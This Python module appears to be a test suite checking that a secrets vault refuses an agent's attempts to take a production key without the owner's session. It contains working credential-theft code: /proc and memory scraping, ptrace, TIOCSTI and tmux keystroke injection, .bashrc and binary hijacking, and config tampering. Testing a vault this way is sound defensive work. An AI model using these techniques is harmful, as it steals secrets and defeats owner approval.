"""The owner's session: in the shell, in processes, in terminals, in files."""

import fcntl
import glob
import os
import pathlib
import re
import signal
import subprocess
import termios
import threading

from attempts import Refused, attempt, cli, refused_exit
from asks import cli_script
from typing_in import LIBC, in_child, libc, memory, seize

HOME = pathlib.Path(os.environ["HOME"])
GET = ("get", "prod/key")
SHELL = os.getppid()
CLONE_PARENT, SYS_CLONE = 0x8000, 56


def with_session(text):
    """What a session found somewhere is good for."""
    for found in set(re.findall(rb"hqs_[\w-]{60,}", text)):
        done = cli(*GET, env={**os.environ, "HQ_VAULT_SESSION": found.decode()})
        if done.returncode == 0:
            return done.stdout
    return b""


def nothing_in(text, where):
    if got := with_session(text):
        return got
    raise Refused(f"no live session in {where}")


@attempt("use the session from its own environment")
def own_environment(_):
    return nothing_in(pathlib.Path("/proc/self/environ").read_bytes() + repr(dict(os.environ)).encode(), "it")


@attempt("use the session from the shell's environment (/proc/PID/environ)")
def shell_environment(_):
    return nothing_in(pathlib.Path(f"/proc/{SHELL}/environ").read_bytes(), "it")


@attempt("run our program as a child")
def child(_):
    return refused_exit(cli(*GET), 4)


@attempt("run it after a double fork")
def double_fork(_):
    return in_child(lambda: in_child(lambda: refused_exit(cli(*GET), 4)))


@attempt("run it in a session of its own (setsid)")
def own_session(_):
    return in_child(lambda: os.setsid() and b"" or refused_exit(cli(*GET), 4))


@attempt("run it as a child of the shell (CLONE_PARENT)")
def clone_parent(_):
    back, out = os.pipe()
    pid = libc(LIBC.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0))
    if pid == 0:
        os.dup2(out, 1)
        os.dup2(out, 2)
        os.execvp("hq-vault", ["hq-vault", *GET])
    os.close(out)
    said = os.fdopen(back, "rb").read()
    if b"no token and no owner session" in said:
        raise Refused(said.decode().splitlines()[0])
    return said


@attempt("run it in its own place (exec), a child of the shell itself")
def in_place(agent):
    agent.owner("command", line="sh -c 'exec hq-vault get prod/key' > ~/in-place 2>&1 < /dev/null")
    said = (HOME / "in-place").read_bytes()
    if b"no token and no owner session" in said:
        raise Refused(said.decode().splitlines()[0])
    return said


@attempt("run it on a terminal of its own (script)")
def own_terminal(_):
    raise Refused(cli_script("hq-vault get prod/key", b"a guess of the passphrase\n"))


@attempt("set a session of its own making")
def made_up(_):
    return refused_exit(cli(*GET, env={**os.environ, "HQ_VAULT_SESSION": "hqs_" + "A" * 71}), 4)


@attempt("find a session or the passphrase in a file")
def in_files(_):
    found = b""
    for folder, _, names in os.walk(HOME):
        for name in names:
            try:
                path = pathlib.Path(folder, name)
                found += path.read_bytes() if path.is_file() else b""
            except OSError:
                continue
    if b"correct horse battery staple" in found:
        return True
    return nothing_in(found, "any file")


@attempt("read the shell's memory", "read the memory of your shell, and a session in it")
def shell_memory(_):
    return nothing_in(memory(SHELL), "its memory")


@attempt("debug the shell", "where the kernel lets it (Yama off or 0), or debug it")
def debug_shell(_):
    return in_child(lambda: b"traced" if seize(SHELL) else b"") and True


@attempt("read /proc/PID/environ of our program as it starts", "read `/proc/PID/environ` of our program between its start")
def start_environment(agent):
    seen, over = set(), threading.Event()

    def watch():
        known = set(os.listdir("/proc"))
        while not over.is_set():
            for pid in [entry for entry in os.listdir("/proc") if entry.isdigit() and entry not in known]:
                try:
                    seen.add(pathlib.Path(f"/proc/{pid}/environ").read_bytes())
                except OSError:
                    known.add(pid)

    watcher = threading.Thread(target=watch)
    watcher.start()
    agent.owner("command", line="for n in 1 2 3 4 5 6 7 8 9 10; do hq-vault get prod/key > /dev/null; done")
    over.set()
    watcher.join()
    return nothing_in(b"\0".join(seen), "what was seen")


@attempt("type into the owner's terminal (TIOCSTI)", "type into your terminal through tmux, an IDE or TIOCSTI")
def typed_for_him(agent):
    tty = os.open("/dev/tty", os.O_RDWR)
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    loot = HOME / "typed-for-him"
    for byte in f" hq-vault get prod/key > {loot}; echo typed-$((1 + 1))\n".encode():
        fcntl.ioctl(tty, termios.TIOCSTI, bytes([byte]))
    agent.owner("shown", text="typed-2")
    agent.owner("settle")
    return loot.read_bytes()


@attempt("type into the owner's terminal (tmux)", "type into your terminal through tmux, an IDE or TIOCSTI")
def typed_by_tmux(agent):
    tmux = ["tmux", "-S", str(HOME / "tmux.sock")]
    line = f"{' '.join(tmux)} -f /dev/null new-session -d -x 120 -y 40 bash --norc --noprofile"
    agent.owner("command", line=line)

    def type_in(text):
        subprocess.run([*tmux, "send-keys", "-l", text], check=True)
        subprocess.run([*tmux, "send-keys", "Enter"], check=True)

    def shown(text):
        screen = subprocess.run([*tmux, "capture-pane", "-p"], capture_output=True, check=True)
        return text in screen.stdout

    try:
        # The owner signs that shell in; the agent then types into it.
        type_in('eval "$(hq-vault shell-init bash)"; hq-vault unlock')
        until(lambda: shown(b"Passphrase"))
        type_in("correct horse battery staple")
        until(lambda: shown(b"Unlocked"))
        loot = HOME / "typed-by-tmux"
        type_in(f"hq-vault get prod/key > {loot}; echo got-$((1 + 1))")
        until(lambda: shown(b"got-2"))
        return loot.read_bytes()
    finally:
        subprocess.run([*tmux, "kill-server"], check=False)


def until(true, rounds=2_000):
    """Asks again until it is so; each question takes its own time."""
    for _ in range(rounds):
        if true():
            return
    raise Refused("it did not come")


@attempt("change the shell's start files", "change your shell's start files")
def start_files(agent):
    loot = HOME / "by-start-files"
    (HOME / ".bashrc").write_text('hq-vault() { __hq_vault "$@" | tee -a ~/by-start-files; }\n')
    # What the next shell of the owner reads.
    agent.owner("command", line=". ~/.bashrc")
    agent.owner("command", line="hq-vault get prod/key > /dev/null")
    agent.owner("command", line='unset -f hq-vault; hq-vault() { __hq_vault "$@"; }')
    return loot.read_bytes()


@attempt("put a program in the place of ours", "your PATH or the `hq-vault` binary")
def false_program(agent):
    place, loot = HOME / "bin" / "hq-vault", HOME / "by-false-program"
    true = os.readlink(place)
    place.unlink()
    place.write_text(f'#!/bin/sh\n{true} "$@" | tee -a {loot}\n')
    place.chmod(0o755)
    try:
        agent.owner("command", line="hq-vault get prod/key > /dev/null")
    finally:
        place.unlink()
        place.symlink_to(true)
    return loot.read_bytes()


@attempt("change the settings that guard entries")
def settings(_):
    refused_exit(cli("config", "set", "entry.require", "any"), 4)
    return True


@attempt("have the daemon run a program of its own (notify.command)")
def notify_command(_):
    refused_exit(cli("config", "set", "notify.command", "/bin/true"), 4)
    return True


@attempt("write such a setting into config.toml")
def config_file(_):
    place = HOME / ".hq-vault" / "config.toml"
    before = place.read_bytes() if place.exists() else None
    place.write_bytes((before or b"") + b'\n"entry.require" = "any"\n')
    try:
        refused_exit(cli("status"), 1, 2)
        return True
    finally:
        place.unlink() if before is None else place.write_bytes(before)


@attempt("mint itself a token")
def mint(_):
    refused_exit(cli("token", "create", "--name", "mine"), 4)
    return True


@attempt("export the daemon's log and the record for values")
def logs(_):
    return b"".join(pathlib.Path(place).read_bytes() for place in glob.glob(str(HOME / ".hq-vault" / "*log*")))
